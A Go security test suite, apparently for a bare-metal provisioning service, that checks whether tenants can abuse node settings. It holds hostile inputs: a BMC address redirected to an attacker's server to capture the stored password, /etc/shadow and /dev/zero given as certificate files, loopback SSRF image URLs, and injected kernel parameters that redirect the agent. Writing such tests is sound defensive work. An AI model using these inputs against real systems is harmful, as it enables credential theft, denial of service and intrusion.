package attack

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// owned is a node that belongs to a project, and its owner's administrator.
func (y *yard) owned(ctx context.Context, t *testing.T, e *enrolled, project string) *caller {
	t.Helper()
	if err := y.operator.set(ctx, e.id, "/owner", project); err != nil {
		t.Fatal(err)
	}
	return y.operator.as(y.token("owners", project))
}

// patch tries to set a field, and says whether that was accepted.
func (c *caller) patch(ctx context.Context, t *testing.T, id, path string, value any) (bool, string) {
	t.Helper()
	status, body, err := c.do(ctx, "PATCH", "/v1/nodes/"+id, []map[string]any{{"op": "add", "path": path, "value": value}})
	if err != nil {
		t.Fatal(err)
	}
	return status/100 == 2, body
}

// bmcTrap takes what rackd says to a BMC.
type bmcTrap struct {
	password string
	got      atomic.Bool
	also     string // another password
	gotAlso  atomic.Bool
	asked    atomic.Int64
}

func (b *bmcTrap) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b.asked.Add(1)
	_, basic, _ := r.BasicAuth()
	body := make([]byte, 4096)
	n, _ := r.Body.Read(body)
	if basic == b.password || strings.Contains(string(body[:n]), b.password) {
		b.got.Store(true)
	}
	if b.also != "" && (basic == b.also || strings.Contains(string(body[:n]), b.also)) {
		b.gotAlso.Store(true)
	}
	w.Header().Set("Content-Type", "application/json")
	if strings.Contains(r.URL.Path, "/Sessions") {
		w.WriteHeader(http.StatusUnauthorized)
		return
	}
	if r.URL.Path == "/redfish/v1/" || r.URL.Path == "/redfish/v1" {
		fmt.Fprint(w, `{"@odata.id":"/redfish/v1/","Id":"Root","RedfishVersion":"1.6.0","UUID":"x","Systems":{"@odata.id":"/redfish/v1/Systems"},"SessionService":{"@odata.id":"/redfish/v1/SessionService"},"Links":{"Sessions":{"@odata.id":"/redfish/v1/SessionService/Sessions"}}}`)
		return
	}
	w.WriteHeader(http.StatusUnauthorized)
}

// trap starts a BMC of the attacker's own.
func (y *yard) trap(t *testing.T, port uint16, password string) *bmcTrap {
	t.Helper()
	b := &bmcTrap{password: password}
	h := y.hosts["stranger"]
	l, err := h.Listen("tcp", h.At(port))
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: b, ReadHeaderTimeout: 5 * time.Second}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	return b
}

// An owner, who sees no password, points the node at a BMC of its own.
func TestOwnerMovesTheBMC(t *testing.T) {
	y, ctx := theYard(t), t.Context()
	e := y.enrol(ctx, t, groupB, nil)
	owner := y.owned(ctx, t, e, "tenant-8")
	trap := y.trap(t, 9001, "not-a-secret")
	ok, said := owner.patch(ctx, t, e.id, "/driver_info/redfish_address", "http://"+addresses["stranger"]+":9001")
	if ok {
		y.operator.provision(ctx, e.id, "manage", nil) // rackd asks the BMC
		until(ctx, 10*time.Second, func(context.Context) error {
			if trap.got.Load() {
				return nil
			}
			return errNotYet
		})
	} else {
		t.Logf("refused: %s", said)
	}
	judge(t, line{8, tenant, "point the node at an own BMC", fmt.Sprintf("set: %t, asked %d times, stored password sent: %t", ok, trap.asked.Load(), trap.got.Load()),
		"no stored password", trap.got.Load()})
}

// An owner names a file of rackd as the certificate of its BMC.
func TestOwnerNamesFilesOfRackd(t *testing.T) {
	y, ctx := theYard(t), t.Context()
	const allowed = 100 // MiB
	e := y.enrol(ctx, t, groupB, nil)
	owner := y.owned(ctx, t, e, "tenant-5")
	if err := y.operator.set(ctx, e.id, "/driver_info/redfish_address", "https://"+addresses["stranger"]+":9002"); err != nil {
		t.Fatal(err)
	}
	fifo := y.file("fifo")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	said := map[string]string{}
	for _, name := range []string{"/etc/shadow", "/no/such/file", "/etc/../etc/passwd", fifo} {
		began := time.Now()
		_, refusal := owner.patch(ctx, t, e.id, "/driver_info/redfish_verify_ca", name)
		_, validated, err := owner.do(ctx, "GET", "/v1/nodes/"+e.id+"/validate", nil)
		if err != nil {
			validated = err.Error()
		}
		said[name] = strings.ReplaceAll(refusal+validated, name, "FILE")
		if took := time.Since(began); took > 5*time.Second {
			judge(t, line{5, tenant, "redfish_verify_ca: a FIFO", fmt.Sprintf("validate waits %.0f s", took.Seconds()), "an answer", true})
		}
	}
	tells := said["/etc/shadow"] != said["/no/such/file"] && (strings.Contains(said["/no/such/file"], "no such file") || strings.Contains(said["/etc/shadow"], "permission") ||
		strings.Contains(said["/etc/shadow"], "certificate"))
	rackd := y.rackds["rackd-b"]
	before, pid := memory(t, rackd, "VmRSS"), rackd.PID()
	ok, _ := owner.patch(ctx, t, e.id, "/driver_info/redfish_verify_ca", "/dev/zero")
	most := 0
	if ok {
		y.operator.do(ctx, "PUT", "/v1/nodes/"+e.id+"/states/provision", map[string]any{"target": "manage"}) // rackd looks at the file
		for end := time.Now().Add(6 * time.Second); time.Now().Before(end) && most <= 4*allowed; {
			if rackd.PID() != pid {
				break // it has been killed by its memory
			}
			most = max(most, memory(t, rackd, "VmRSS")-before)
			<-time.After(10 * time.Millisecond)
		}
	}
	if most > allowed { // before it takes all of the machine's
		y.operator.patch(ctx, t, e.id, "/driver_info/redfish_verify_ca", false)
		rackd.Kill()
		if err := rackd.Start(); err != nil {
			t.Fatal(err)
		}
		if err := rackd.Await(ctx, func(ctx context.Context) error { return y.knows(ctx, "rackd-b") }); err != nil {
			t.Fatal(err)
		}
	}
	judge(t, line{5, tenant, "redfish_verify_ca: /dev/zero", fmt.Sprintf("accepted: %t, rackd grows by %d MiB", ok, most), fmt.Sprintf("%d MiB", allowed), most > allowed})
	judge(t, line{5, tenant, "redfish_verify_ca: which files are there", fmt.Sprintf("told apart: %t", tells), "false", tells})
	if tells {
		t.Logf("there: %.300s\nnot there: %.300s", said["/etc/shadow"], said["/no/such/file"])
	}
}

// An owner adds kernel parameters that say where the agent calls and whom it trusts.
func TestOwnerRedirectsTheAgent(t *testing.T) {
	y, ctx := theYard(t), t.Context()
	e := y.enrol(ctx, t, groupB, nil)
	owner := y.owned(ctx, t, e, "tenant-11")
	y.available(ctx, t, e)
	const evil = "ipa-api-url=https://10.77.1.66:1 ironyard-api-fingerprint=00 ipa-guard-special-filesystems=false"
	var set []string
	for _, field := range []string{"/instance_info/kernel_append_params", "/driver_info/kernel_append_params"} {
		if ok, _ := owner.patch(ctx, t, e.id, field, evil); ok {
			set = append(set, field)
		}
	}
	reached, over := "refused", false
	if len(set) > 0 {
		// Then the request for a deploy says what is wrong, and nothing boots.
		err := y.operator.provision(ctx, e.id, "active", nil)
		reached, over = fmt.Sprintf("%v stored, a deploy is accepted", set), true
		if err != nil && strings.Contains(err.Error(), ": 400 ") && strings.Contains(err.Error(), "kernel_append_params") {
			reached, over = fmt.Sprintf("%v stored, a deploy is refused with their names", set), false
		} else if err != nil {
			t.Fatal(err)
		}
	}
	judge(t, line{11, tenant, "kernel parameters that rackd sets", reached, "refused, or without effect", over})
}

// A tenant's image is on rackd's own host, which only programs there may reach.
func TestImageFromRackdItself(t *testing.T) {
	y, ctx := theYard(t), t.Context()
	var hits atomic.Int64
	secret := []byte("what only programs on this host may read")
	sum := sha256.Sum256(secret) // an image that no cache has
	l, err := y.hosts["rackd-b"].Listen("tcp", "127.0.0.1:8009")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Write(secret)
	})}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	e := y.enrol(ctx, t, groupB, nil)
	owner := y.owned(ctx, t, e, "tenant-12")
	y.available(ctx, t, e)
	if err := y.operator.set(ctx, e.id, "/instance_info/image_os_hash_value", hex.EncodeToString(sum[:])); err != nil {
		t.Fatal(err)
	}
	var let []string
	for _, host := range []string{"127.0.0.1", "0.0.0.0", "[::ffff:127.0.0.1]", "localhost"} {
		before := hits.Load()
		if ok, _ := owner.patch(ctx, t, e.id, "/instance_info/image_source", "http://"+host+":8009/secret"); !ok {
			continue
		}
		if err := owner.provision(ctx, e.id, "active", nil); err != nil {
			t.Logf("%s: refused: %v", host, err)
			continue
		}
		until(ctx, 20*time.Second, func(ctx context.Context) error {
			n, err := y.operator.node(ctx, e.id)
			if err == nil && !strings.HasSuffix(n.State, "failed") && hits.Load() == before {
				err = errNotYet
			}
			return err
		})
		if hits.Load() > before {
			let = append(let, host)
			break // one way in is enough
		}
	}
	judge(t, line{12, tenant, "an image on rackd's loopback", fmt.Sprintf("fetched by %v", let), "never", len(let) > 0})
}

// A password in the arguments of a step lies in the database.
func TestPasswordInStepArguments(t *testing.T) {
	y, ctx := theYard(t), t.Context()
	const secret = "password-in-a-steps-arguments"
	steps := []map[string]any{{"interface": "bios", "step": "apply_configuration", "priority": 90, "args": map[string]any{"settings": []any{}, "admin_password": secret}}}
	if err := y.operator.ask(ctx, "POST", "/v1/deploy_templates", map[string]any{"name": "CUSTOM_SECRET", "steps": steps}, nil); err != nil {
		t.Fatal(err)
	}
	status, shown, err := y.operator.do(ctx, "GET", "/v1/deploy_templates/CUSTOM_SECRET", nil)
	if err != nil || status != http.StatusOK {
		t.Fatalf("the template: %d %s %v", status, shown, err)
	}
	if !strings.Contains(shown, "apply_configuration") {
		t.Fatalf("the template has lost its step: %s", shown)
	}
	inDatabase := false
	for _, suffix := range []string{"", "-wal"} {
		raw, err := os.ReadFile(y.file("central.db") + suffix)
		if err == nil && strings.Contains(string(raw), secret) {
			inDatabase = true
		}
	}
	shows := strings.Contains(shown, secret)
	judge(t, line{10, tenant, "read a password in a template's arguments", fmt.Sprintf("in the database: %t, shown: %t", inDatabase, shows), "neither", inDatabase || shows})
}

// Who enrols its own node sets what only an operator may.
func TestSelfServiceFields(t *testing.T) {
	y, ctx := theYard(t), t.Context()
	owner := y.operator.as(y.token("owners", "tenant-15"))
	var set []string
	for field, value := range map[string]any{"automated_clean": false, "shard": "other", "disable_power_off": true} {
		status, body, err := owner.do(ctx, "POST", "/v1/nodes", map[string]any{"name": "self-" + strings.ReplaceAll(field, "_", "-"), "driver": "fake-hardware", field: value})
		if err != nil {
			t.Fatal(err)
		}
		var got map[string]any
		json.Unmarshal([]byte(body), &got) // a refusal holds no such field
		if status/100 == 2 && fmt.Sprint(got[field]) == fmt.Sprint(value) {
			set = append(set, field)
		}
	}
	status, body, err := owner.do(ctx, "POST", "/v1/nodes", map[string]any{"name": "self-plain", "driver": "fake-hardware"})
	if err != nil || status/100 != 2 {
		t.Fatalf("self-service does not work at all: %d %s %v", status, body, err)
	}
	judge(t, line{15, tenant, "fields that PATCH refuses, by POST", fmt.Sprintf("%v set", set), "none", len(set) > 0})
}

// A lessee, who may deploy the node, tries what is the owner's and the operator's.
func TestLessee(t *testing.T) {
	y, ctx := theYard(t), t.Context()
	e, other := y.enrol(ctx, t, groupB, nil), y.fakeNode(ctx, t, "not-lent", groupB)
	y.available(ctx, t, e)
	if err := y.operator.set(ctx, e.id, "/lessee", "tenant-l"); err != nil {
		t.Fatal(err)
	}
	lessee := y.operator.as(y.token("owners", "tenant-l"))
	if ok, said := lessee.patch(ctx, t, e.id, "/instance_info/display_name", "mine"); !ok {
		t.Fatalf("a lessee may not do what is theirs: %s", said)
	}
	var done []string
	for path, value := range map[string]any{"/driver_info/redfish_address": "http://10.77.1.66:9005", "/driver_info/redfish_verify_ca": false, "/owner": "tenant-l", "/lessee": "another",
		"/conductor_group": groupA, "/properties/cpus": 1, "/driver": "fake-hardware", "/name": "taken", "/parent_node": other.UUID, "/automated_clean": false,
		"/network_data": map[string]any{}, "/protected": true, "/retired": true, "/disable_power_off": true} {
		if ok, _ := lessee.patch(ctx, t, e.id, path, value); ok {
			done = append(done, "PATCH "+path)
		}
	}
	for _, ask := range []struct {
		method, path string
		body         any
	}{{"DELETE", "/v1/nodes/" + e.id, nil}, {"GET", "/v1/nodes/" + other.UUID, nil}, {"GET", "/v1/nodes/" + e.id + "/history", nil}, {"GET", "/v1/nodes/" + e.id + "/inventory", nil},
		{"GET", "/v1/nodes/" + e.id + "/states/console", nil}, {"GET", "/v1/nodes/" + e.id + "/states/console/log", nil}, {"GET", "/v1/nodes/" + e.id + "/states/console/stream", nil}, {"PUT", "/v1/nodes/" + e.id + "/management/inject_nmi", map[string]any{}},
		{"POST", "/v1/ports", map[string]any{"node_uuid": e.id, "address": "02:00:00:00:99:99"}}, {"POST", "/v1/ports", map[string]any{"node_uuid": other.UUID, "address": "02:00:00:00:99:98"}},
		{"PUT", "/v1/nodes/" + other.UUID + "/states/power", map[string]any{"target": "power on"}}, {"PUT", "/v1/nodes/" + other.UUID + "/states/provision", map[string]any{"target": "manage"}},
		{"GET", "/v1/audit", nil}, {"GET", "/v1/conductors", nil}, {"POST", "/v1/deploy_templates", map[string]any{"name": "CUSTOM_L", "steps": []any{}}}} {
		status, _, err := lessee.do(ctx, ask.method, ask.path, ask.body)
		if err != nil {
			t.Fatal(err)
		}
		if status/100 == 2 {
			done = append(done, ask.method+" "+ask.path)
		}
	}
	judge(t, line{8, tenant, "a lessee does what is the owner's or an operator's", fmt.Sprintf("%v", done), "[]", len(done) > 0})
	_, shown, err := lessee.do(ctx, "GET", "/v1/nodes/"+e.id, nil)
	if err != nil {
		t.Fatal(err)
	}
	var spilled []string
	for _, field := range []string{"redfish_password", "redfish_address"} {
		if value, _ := e.Enrolment.DriverInfo[field].(string); value != "" && strings.Contains(shown, value) {
			spilled = append(spilled, field)
		}
	}
	judge(t, line{8, tenant, "a lessee reads of the BMC", fmt.Sprintf("%v", spilled), "[]", len(spilled) > 0})
}
